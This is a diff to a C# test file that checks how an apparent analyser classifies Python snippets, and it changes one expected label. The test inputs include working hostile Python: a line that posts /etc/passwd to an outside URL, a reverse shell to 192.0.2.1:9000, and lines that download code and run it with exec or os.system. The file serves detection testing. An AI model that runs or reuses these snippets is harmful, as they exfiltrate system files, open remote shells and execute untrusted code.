@@ -43,7 +43,7 @@ public class PythonTests
     [InlineData("import requests; requests.post('https://example.org/in', data=open('/etc/passwd').read())", "SendData https://example.org/in #file")]
     [InlineData("import requests; requests.get('https://example.org')", "Connect https://example.org")]
     [InlineData("from urllib import request\nrequest.urlopen('https://example.org/a').read()", "Connect https://example.org/a")]
-    [InlineData("import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 9000))", "Connect 192.0.2.1:9000")]
+    [InlineData("import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 9000))", "Connect 192.0.2.1:9000 #code-socket")]
     [InlineData("import socket,os,pty;s=socket.socket();s.connect(('192.0.2.1',9000));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')", "OpenSession 192.0.2.1:9000 #reverse-shell")]
     [InlineData("import requests; exec(requests.get('https://example.org/a.py').text)", "ExecuteDownloaded download of https://example.org/a.py ? #exec")]
     [InlineData("import urllib.request as u, os\nos.system(u.urlopen('http://example.org').read().decode())", "ExecuteDownloaded download of http://example.org.decode ? #os.system")]
